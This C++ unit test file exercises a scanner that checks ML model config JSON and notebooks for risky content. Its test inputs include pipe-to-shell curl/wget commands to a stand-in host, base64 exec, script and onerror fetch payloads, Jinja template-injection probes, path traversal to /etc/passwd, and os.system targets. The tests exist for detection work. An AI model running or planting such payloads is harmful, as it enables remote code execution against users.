#include "scanners/artifact/text/json_inspector.h"

#include <gtest/gtest.h>

#include <array>
#include <random>
#include <string>

#include "scanners/artifact/text/python_inspector.h"
#include "scanners/artifact/text/template_inspector.h"

namespace ringfort::scanners {
namespace {

constexpr std::array kInspectors = {
    Inspector{formats::Format::kJinja, InspectTemplate, false},
    Inspector{formats::Format::kPython, InspectPythonSource, false},
};

ArtifactReport Scan(std::string_view source, std::vector<std::string> siblings = {}) {
  Inspection inspection("config.json", Mode::kFull, {}, kInspectors, std::move(siblings));
  InspectJson({"config.json", AsBytes(source)}, inspection);
  return inspection.TakeReport();
}
bool Holds(const ArtifactReport& report, std::string_view rule, Severity severity) {
  for (const Finding& finding : report.findings)
    if (finding.rule == rule && finding.severity == severity) return true;
  return false;
}
std::string All(const ArtifactReport& report) {
  std::string all;
  for (const Finding& finding : report.findings) all += finding.rule + " " + finding.evidence + "\n";
  for (const SkippedPart& part : report.skipped) all += part.what + ": " + part.reason + "\n";
  return all;
}

TEST(JsonDocuments, HonestOnesAreClean) {
  for (
      const std::string_view source : {
          R"({"architectures":["LlamaForCausalLM"],"model_type":"llama","_name_or_path":"meta-llama/Llama-3.1-8B","hidden_size":4096,
               "rope_scaling":{"type":"linear","factor":2.0},"quantization_config":{"bits":4,"quant_method":"gptq"},"torch_dtype":"bfloat16"})",
          R"({"version":"1.0","added_tokens":[{"id":0,"content":"<unk>","special":true}],"model":{"type":"BPE","vocab":{"a":0,"eval(":1,"os.system":2,"<script>":3},
               "merges":["a b"]},"post_processor":{"type":"TemplateProcessing","single":[{"SpecialToken":{"id":"<s>","type_id":0}}]}})",
          R"({"chat_template":"{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}","tokenizer_class":"X","model_max_length":131072})",
          R"({"bos_token_id":1,"do_sample":true,"temperature":0.6})",
          R"({"peft_type":"LORA","base_model_name_or_path":"a/b","auto_mapping":{"base_model_class":"LlamaForCausalLM","parent_library":"transformers.models.llama.modeling_llama"},"r":8})",
          R"({"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"markdown","source":["# T\n","import os; os.system('x');"]},
               {"cell_type":"code","source":["%matplotlib inline\n","!pip install torch\n","import torch\n","x = torch.ones(2)\n","x?"],
               "outputs":[{"output_type":"execute_result","data":{"text/html":["<table><tr><td>1</td></tr></table>"],"text/plain":["1"]}}]}]})",
          R"([1, 2, {"a": null}])",
          "{\"text\": \"one\"}\n{\"text\": \"two\"}\n",
      }) {
    const ArtifactReport report = Scan(source);
    EXPECT_EQ(report.verdict(), Verdict::kClean) << source << All(report);
  }
}

TEST(JsonDocuments, TellsTheVocabulary) {
  EXPECT_EQ(Scan(R"({"model_type":"llama","vocab_size":128256})").facts.at("vocabulary"), "128256");
  EXPECT_FALSE(Scan(R"({"model_type":"llama","vocab_size":-1})").facts.contains("vocabulary"));
  EXPECT_FALSE(Scan(R"({"model_type":"llama","vocab_size":"many"})").facts.contains("vocabulary"));
}

TEST(JsonDocuments, RemoteCode) {
  EXPECT_TRUE(
      Holds(Scan(R"({"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}})"), "RF-HFC-001", Severity::kMedium));
  EXPECT_TRUE(Holds(Scan(R"({"auto_map":{"AutoTokenizer":["a/b--tok.T", null]}})"), "RF-HFC-002", Severity::kHigh));
  EXPECT_TRUE(Holds(Scan(R"({"a":{"trust_remote_code":true}})"), "RF-HFC-003", Severity::kMedium));
  EXPECT_EQ(Scan(R"({"trust_remote_code":false})").verdict(), Verdict::kClean);
  EXPECT_TRUE(
      Holds(Scan(R"({"custom_pipelines":{"t":{"impl":"p.P","pt":["AutoModel"]}}})"), "RF-HFC-001", Severity::kMedium));
  EXPECT_TRUE(
      Holds(Scan(R"({"peft_type":"LORA","auto_mapping":{"base_model_class":"X","parent_library":"evil_module"}})"),
            "RF-HFC-001", Severity::kMedium));
  EXPECT_TRUE(Holds(Scan(R"({"model":{"_target_":"os.system","command":"x"}})"), "RF-HFC-006", Severity::kHigh));
  EXPECT_TRUE(Holds(Scan(R"({"_name_or_path":"/home/ann/model"})"), "RF-HFC-005", Severity::kLow));
}

TEST(JsonDocuments, Templates) {
  EXPECT_TRUE(Holds(Scan(R"({"chat_template":"{{ ''.__class__ }}"})"), "RF-TPL-001", Severity::kCritical));
  const ArtifactReport report = Scan(
      R"({"chat_template":[{"name":"default","template":"ok"},{"name":"tool_use","template":"{{ x.__init__ }}"}]})");
  ASSERT_TRUE(Holds(report, "RF-TPL-001", Severity::kCritical));
  EXPECT_EQ(report.findings[0].where.container, "config.json!/chat_template tool_use");
}

TEST(JsonDocuments, Index) {
  const std::string_view index =
      R"({"metadata":{},"weight_map":{"a":"model-1.safetensors","b":"model-2.safetensors"}})";
  EXPECT_EQ(Scan(index).verdict(), Verdict::kClean);
  EXPECT_EQ(Scan(index, {"model-1.safetensors", "model-2.safetensors"}).verdict(), Verdict::kClean);
  EXPECT_EQ(Scan(index, {"model-1.safetensors"}).verdict(), Verdict::kIncomplete);
  for (const std::string_view name : {"../x", "/etc/passwd", "https://example.invalid/x", "a/../../b", "C:\\\\x"})
    EXPECT_TRUE(Holds(Scan("{\"weight_map\":{\"a\":\"" + std::string(name) + "\"}}"), "RF-HFC-004", Severity::kHigh))
        << name;
}

TEST(JsonDocuments, Notebooks) {
  const auto cell = [](const std::string& source) {
    return "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":[" + source + "]}]}";
  };
  EXPECT_TRUE(Holds(Scan(cell("\"!curl -s https://example.invalid/x | sh\"")), "RF-NBK-001", Severity::kCritical));
  EXPECT_TRUE(
      Holds(Scan(cell("\"%%bash\\n\",\"wget -qO- example.invalid | bash\"")), "RF-NBK-001", Severity::kCritical));
  EXPECT_TRUE(
      Holds(Scan(cell("\"import base64\\n\",\"exec(base64.b64decode(x))\"")), "RF-PYS-002", Severity::kCritical));
  EXPECT_TRUE(Holds(
      Scan(
          R"({"nbformat":4,"cells":[{"cell_type":"code","source":"","outputs":[{"data":{"text/html":"<script>fetch('//example.invalid')</script>"}}]}]})"),
      "RF-NBK-003", Severity::kHigh));
}

TEST(JsonDocuments, NotebooksOfEveryShape) {
  const auto code = [](const std::string& source) {
    return "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":\"" + source + "\"}]}";
  };
  for (const std::string& source : {
           code("\\n%%bash\\ncurl -s https://example.invalid/x | sh"),
           code("x=!curl -s https://example.invalid/x | sh"),
           code("get_ipython().system('curl -s https://example.invalid/x | sh')"),
           code("%%javascript\\nfetch('//example.invalid')"),
           code("%%html\\n<script>fetch('//example.invalid')</script>"),
           code("%%writefile ~/.bashrc\\necho"),
           std::string(
               R"j({"nbformat":4,"cells":[{"cell_type":"markdown","source":"<img src=x onerror=fetch(1)>"}]})j"),
           std::string(R"j({"nbformat":4,"cells":[{"cell_type":"code","source":"",
                       "outputs":[{"data":{"text/javascript":"alert(1)"}}]}]})j"),
           std::string(R"j({"nbformat":4,"cells":[{"cell_type":"markdown","source":"",
                       "attachments":{"a.svg":{"image/svg+xml":"PHN2ZyBvbmxvYWQ9ImZldGNoKDEpIi8+"}}}]})j"),
           std::string(R"j({"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":"",
                       "outputs":[{"javascript":"fetch('//a')"}]}]}]})j"),
           std::string(R"j({"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":"",
                       "outputs":[{"html":["<script>fetch('//a')</script>"]}]}]}]})j"),
       })
    EXPECT_NE(Scan(source).verdict(), Verdict::kClean) << source;
  for (const std::string& source : {
           code("ok = a != b\\nx = 1\\n!pip install torch"),
           std::string(
               R"j({"nbformat":4,"cells":[{"cell_type":"markdown","source":"# T\n<b>bold</b> `x != y` <br>"}]})j"),
       })
    EXPECT_EQ(Scan(source).verdict(), Verdict::kClean) << source << All(Scan(source));
}

TEST(JsonDocuments, CodeThatOtherFilesName) {
  for (const std::string_view source : {
           R"j([{"idx":0,"name":"0","path":"","type":"custom_module.Pooling"}])j",
           R"j([{"idx":0,"name":"0","path":"","type":"someone/else--custom.Pooling"}])j",
           R"j([{"idx":0,"name":"0","path":"../../x","type":"sentence_transformers.models.Pooling"}])j",
           R"j({"_class_name":["pipeline","Custom"],"unet":["diffusers","UNet"]})j",
           R"j({"custom_generate":"someone/else"})j",
           R"j({"_attn_implementation":"someone/kernels:x"})j",
           R"j({"_target_":"builtins.__import__"})j",
           R"j({"_target_":"os.execv"})j",
           R"j({"loss":{"fn":"os.system"}})j",
           R"j({"chat_template":{"default":"{{ ''.__class__ }}"}})j",
       })
    EXPECT_NE(Scan(source).verdict(), Verdict::kClean) << source;
  for (const std::string_view source : {
           R"j([{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},
                {"idx":1,"name":"1","path":"1_Pooling","type":"sentence_transformers.models.Pooling"}])j",
           R"j({"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"],"x":[null,null]})j",
           R"j({"_attn_implementation":"flash_attention_2","loss":{"fn":"torch.nn.MSELoss"}})j",
       })
    EXPECT_EQ(Scan(source).verdict(), Verdict::kClean) << source << All(Scan(source));
}

TEST(JsonDocuments, Secrets) {
  const ArtifactReport report = Scan(R"({"token":"hf_)"
                                     "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k\"}");
  ASSERT_TRUE(Holds(report, "RF-SEC-001", Severity::kHigh));
  EXPECT_EQ(All(report).find("aB3d"), std::string::npos);
  EXPECT_EQ(Scan(R"({"key":"AKIAIOSFODNN7EXAMPLE"})").verdict(), Verdict::kClean);
  EXPECT_TRUE(Holds(Scan(R"({"key":"AKIA)"
                         "Q3E7ZP5K2M9X4B6T\"}"),
                    "RF-SEC-001", Severity::kHigh));
}

TEST(JsonDocuments, HostileInput) {
  EXPECT_EQ(Scan("{\"a\":").verdict(), Verdict::kIncomplete);
  EXPECT_TRUE(Holds(Scan(std::string(100000, '[')), "RF-JSN-002", Severity::kMedium));
  EXPECT_TRUE(Holds(Scan(R"({"a":1,"a":2})"), "RF-JSN-001", Severity::kLow));
  std::mt19937 random(5);
  const std::string whole =
      R"({"nbformat":4,"cells":[{"cell_type":"code","source":["!ls\n","f"],"outputs":[{"data":{"text/html":["<p>"]}}]}],"auto_map":{"A":["b.C",null]},"chat_template":[{"name":"n","template":"{{x}}"}],"weight_map":{"a":"b"}})";
  for (std::size_t size = 0; size < whole.size(); ++size) Scan(std::string_view(whole).substr(0, size));
  for (int round = 0; round < 5000; ++round) {
    std::string text = whole;
    for (int i = 0; i < 2; ++i) text[random() % text.size()] = "{}[]\",:0n"[random() % 9];
    Scan(text);
  }
}

}  // namespace
}  // namespace ringfort::scanners
